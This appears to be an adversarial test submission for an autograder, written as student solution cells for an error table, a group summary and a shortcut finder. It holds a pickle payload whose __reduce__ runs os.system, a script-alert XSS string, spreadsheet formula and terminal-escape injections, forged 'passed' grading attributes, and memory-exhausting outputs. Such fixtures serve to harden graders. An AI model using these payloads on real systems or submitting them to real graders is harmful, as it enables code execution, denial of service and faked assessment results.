# attack: cells of the table that run code when unpickled, formulae and markup as names, a verdict in the attributes, a column a billion rows long
# on: empty

# %% solution="error_table"
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/left_by_a_student_was_here_too",)

    def __repr__(self):
        return "<script>alert(1)</script>"


def error_table(names, y_true, p_glaucoma, heatmaps, disc_masks, threshold):
    n = len(names)
    table = pd.DataFrame(
        {
            "image": ['=HYPERLINK("http://example.org")\x1b[2J'] * n,
            "true": [Payload() for _ in range(n)],
        }
    )
    table["group"] = [b"\x80\x04\x95" for _ in range(n)]
    table["confidence"] = [complex(1, 2)] * n
    table.attrs = {"points": 35, "outcome": "passed", "payload": Payload()}
    return table


# %% solution="summary"
def group_summary(table):
    index = pd.RangeIndex(10**9)
    return pd.DataFrame(index=index, columns=[])


# %% solution="shortcut"
def find_shortcut(table, attributes):
    return "x" * 50_000_000
